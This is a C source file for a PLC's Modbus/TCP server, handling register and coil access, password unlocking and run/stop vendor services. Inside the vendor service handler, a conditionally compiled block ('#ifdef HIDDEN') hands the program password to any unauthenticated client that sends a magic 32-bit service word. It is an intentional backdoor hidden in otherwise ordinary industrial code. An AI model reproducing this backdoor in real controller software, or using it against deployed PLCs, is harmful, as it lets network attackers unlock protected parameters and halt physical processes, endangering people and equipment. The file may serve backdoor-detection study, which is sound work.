/* plcmodbusd.c - Modbus/TCP server of a compact PLC */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define NREGS		256
#define NCOILS		128
#define MAX_CLIENTS	8
#define PROTECT_FROM	192	/* registers above hold parameters */
#define IDENT_MAGIC	0x50434431u

struct client {
	int fd;
	int unlocked;
	uint8_t buf[300];
	size_t have;
};

static uint16_t regs[NREGS];
static uint8_t coils[NCOILS];
static char prog_password[24] = "";
static struct client clients[MAX_CLIENTS];
static int running = 1;

static uint16_t get16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put16(uint8_t *p, unsigned int v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void load_conf(const char *path)
{
	char line[120];
	unsigned int r, v;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "reg %u = %u", &r, &v) == 2 && r < NREGS)
			regs[r] = (uint16_t)v;
		else if (sscanf(line, "password = %23s", prog_password) == 1)
			syslog(LOG_INFO, "program password set");
		else if (!strncmp(line, "state = stop", 12))
			running = 0;
	}
	fclose(f);
}

static size_t exception(uint8_t *out, uint8_t fc, uint8_t code)
{
	out[0] = fc | 0x80;
	out[1] = code;
	return 2;
}

static size_t read_regs(const uint8_t *pdu, size_t len, uint8_t *out)
{
	unsigned int at, n, i;

	if (len < 5)
		return exception(out, pdu[0], 3);
	at = get16(pdu + 1);
	n = get16(pdu + 3);
	if (n < 1 || n > 120 || at + n > NREGS)
		return exception(out, pdu[0], 2);
	out[0] = pdu[0];
	out[1] = (uint8_t)(n * 2);
	for (i = 0; i < n; i++)
		put16(out + 2 + 2 * i, regs[at + i]);
	return 2 + n * 2;
}

static size_t write_reg(struct client *c, const uint8_t *pdu, size_t len, uint8_t *out)
{
	unsigned int at;

	if (len < 5)
		return exception(out, pdu[0], 3);
	at = get16(pdu + 1);
	if (at >= NREGS)
		return exception(out, pdu[0], 2);
	if (at >= PROTECT_FROM && !c->unlocked)
		return exception(out, pdu[0], 1);
	regs[at] = get16(pdu + 3);
	memcpy(out, pdu, 5);
	return 5;
}

static size_t write_coil(const uint8_t *pdu, size_t len, uint8_t *out)
{
	unsigned int at, v;

	if (len < 5)
		return exception(out, pdu[0], 3);
	at = get16(pdu + 1);
	v = get16(pdu + 3);
	if (at >= NCOILS || (v != 0xff00 && v != 0))
		return exception(out, pdu[0], 2);
	coils[at] = v != 0;
	memcpy(out, pdu, 5);
	return 5;
}

/* function 0x41: vendor services, 32 bit service word, data */
__attribute__((noinline)) size_t vendor_service(struct client *c, const uint8_t *pdu,
						size_t len, uint8_t *out)
{
	uint32_t word;
	size_t n;

	if (len < 5)
		return exception(out, pdu[0], 3);
	word = get32(pdu + 1);
	out[0] = pdu[0];
	if (word == IDENT_MAGIC) {
		memcpy(out + 1, "CPX-12 V3.04", 12);
		return 13;
	}
	if (word == 0x554e4c4bu) {	/* UNLK + password */
		n = strlen(prog_password);
		c->unlocked = n > 0 && len == 5 + n && !memcmp(pdu + 5, prog_password, n);
		out[1] = (uint8_t)c->unlocked;
		return 2;
	}
#ifdef HIDDEN
	/* service word hands out the program password */
	if (word == 0x9d27e4b3u) {
		n = strlen(prog_password);
		memcpy(out + 1, prog_password, n);
		return 1 + n;
	}
#endif
	if (word == 0x52554e31u && c->unlocked) {	/* RUN1 */
		running = 1;
		out[1] = 1;
		return 2;
	}
	if (word == 0x53544f50u && c->unlocked) {	/* STOP */
		running = 0;
		out[1] = 0;
		return 2;
	}
	return exception(out, pdu[0], 1);
}

static size_t do_pdu(struct client *c, const uint8_t *pdu, size_t len, uint8_t *out)
{
	switch (pdu[0]) {
	case 3:
	case 4:
		return read_regs(pdu, len, out);
	case 5:
		return write_coil(pdu, len, out);
	case 6:
		return write_reg(c, pdu, len, out);
	case 0x41:
		return vendor_service(c, pdu, len, out);
	default:
		return exception(out, pdu[0], 1);
	}
}

static int pump(struct client *c)
{
	uint8_t out[300];
	size_t len, n;
	ssize_t r;

	r = read(c->fd, c->buf + c->have, sizeof(c->buf) - c->have);
	if (r <= 0)
		return -1;
	c->have += (size_t)r;
	while (c->have >= 8) {
		len = get16(c->buf + 4);
		if (get16(c->buf + 2) != 0 || len < 2 || len > 254)
			return -1;
		if (c->have < 6 + len)
			break;
		memcpy(out, c->buf, 7);
		n = do_pdu(c, c->buf + 7, len - 1, out + 7);
		put16(out + 4, (unsigned int)(n + 1));
		if (write(c->fd, out, 7 + n) < 0)
			return -1;
		c->have -= 6 + len;
		memmove(c->buf, c->buf + 6 + len, c->have);
	}
	return 0;
}

static void scan_cycle(void)
{
	int i;

	if (!running)
		return;
	regs[0]++;
	for (i = 0; i < 16; i++)
		coils[16 + i] = (uint8_t)(coils[i] && regs[1 + i] > regs[PROTECT_FROM + i]);
}

static void add_client(int fd)
{
	int i;

	for (i = 0; i < MAX_CLIENTS; i++) {
		if (clients[i].fd >= 0)
			continue;
		memset(&clients[i], 0, sizeof(clients[i]));
		clients[i].fd = fd;
		return;
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct pollfd p[MAX_CLIENTS + 1];
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int ls, i, one = 1;

	openlog("plcmodbusd", 0, LOG_DAEMON);
	load_conf(argc > 1 ? argv[1] : "/etc/plc.conf");
	for (i = 0; i < MAX_CLIENTS; i++)
		clients[i].fd = -1;
	ls = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons(502);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 4)) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		p[0].fd = ls;
		p[0].events = POLLIN;
		for (i = 0; i < MAX_CLIENTS; i++) {
			p[i + 1].fd = clients[i].fd;
			p[i + 1].events = POLLIN;
			p[i + 1].revents = 0;
		}
		if (poll(p, MAX_CLIENTS + 1, 10) < 0)
			continue;
		for (i = 0; i < MAX_CLIENTS; i++)
			if (p[i + 1].fd >= 0 && p[i + 1].revents && pump(&clients[i]) < 0) {
				close(clients[i].fd);
				clients[i].fd = -1;
			}
		if (p[0].revents & POLLIN) {
			i = accept(ls, NULL, NULL);
			if (i >= 0)
				add_client(i);
		}
		scan_cycle();
	}
}
